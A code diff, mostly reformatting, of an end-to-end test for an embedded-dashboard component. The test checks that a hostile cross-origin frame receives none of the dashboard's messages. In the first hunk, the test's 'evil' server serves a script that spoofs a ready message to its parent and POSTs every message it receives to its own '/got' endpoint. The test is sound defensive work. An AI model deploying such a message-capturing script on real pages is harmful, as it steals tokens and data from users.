@@ -57,10 +57,12 @@ describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by 
         });
         return;
       }
-      res.writeHead(200, { 'content-type': 'text/html' }).end(
-        `<!doctype html><title>evil</title><script>addEventListener('message',(e)=>fetch('/got',{method:'POST',body:JSON.stringify(e.data)}));` +
-          `parent.postMessage({event:'dashboardReadyToLoad',detail:{dashboardId:'${DASHBOARD}'}},'*')</script>`,
-      );
+      res
+        .writeHead(200, { 'content-type': 'text/html' })
+        .end(
+          `<!doctype html><title>evil</title><script>addEventListener('message',(e)=>fetch('/got',{method:'POST',body:JSON.stringify(e.data)}));` +
+            `parent.postMessage({event:'dashboardReadyToLoad',detail:{dashboardId:'${DASHBOARD}'}},'*')</script>`,
+        );
     });
     evilUrl = await listen(evil);
     const srcTemplate = `${emulator.url}/iframe/{dashboard}`;
@@ -84,10 +86,12 @@ describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by 
           // Say why at once rather than let the test wait for a dashboard that cannot come.
           if (!first.response) return void res.writeHead(500, { 'content-type': 'text/plain' }).end('the BFF gave no first token');
           const frame = renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate: withToken, token: first.response.token, visible: late });
-          res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...first.headers }).end(
-            `<!doctype html><html><head><title>adopt</title>${script}</head><body>` +
-              `<embedded-dashboard dashboard="${DASHBOARD}" src-template="${withToken}">${frame}${first.html}</embedded-dashboard></body></html>`,
-          );
+          res
+            .writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...first.headers })
+            .end(
+              `<!doctype html><html><head><title>adopt</title>${script}</head><body>` +
+                `<embedded-dashboard dashboard="${DASHBOARD}" src-template="${withToken}">${frame}${first.html}</embedded-dashboard></body></html>`,
+            );
         })();
         return;
       }
@@ -218,7 +222,12 @@ describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by 
     // dashboard (a skeleton, or the frame's slot pending), and each dashboard-load event.
     await context.addInitScript(() => {
       if (window !== window.top) return;
-      const seen = ((window as unknown as { seen: { covered: number; frames: number; defined: number; loads: number } }).seen = { covered: 0, frames: 0, defined: 0, loads: 0 });
+      const seen = ((window as unknown as { seen: { covered: number; frames: number; defined: number; loads: number } }).seen = {
+        covered: 0,
+        frames: 0,
+        defined: 0,
+        loads: 0,
+      });
       addEventListener('dashboard-load', () => seen.loads++);
       const tick = () => {
         seen.frames++;
@@ -259,7 +268,9 @@ describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by 
       expect(seen.covered).toBe(0);
       expect(seen.loads).toBe(1);
       // The height the dashboard repeated on the element's token, applied.
-      expect(await page.locator('embedded-dashboard > iframe').evaluate((frame) => getComputedStyle(frame).getPropertyValue('--embedded-dashboard-height'))).toMatch(/^\d+px$/);
+      expect(
+        await page.locator('embedded-dashboard > iframe').evaluate((frame) => getComputedStyle(frame).getPropertyValue('--embedded-dashboard-height')),
+      ).toMatch(/^\d+px$/);
     } finally {
       await context.close();
     }
@@ -271,7 +282,9 @@ describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by 
     try {
       await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
       expect(await page.locator('embedded-dashboard > iframe').count()).toBe(0);
-      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelector('iframe')!.src)).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
+      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelector('iframe')!.src)).toBe(
+        `${emulator.url}/iframe/${DASHBOARD}`,
+      );
       expect((await dashboard(page)).state).toBe('ready');
       expect(documents[documents.length - 1]).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
       expect(evilReceived).toEqual([]);
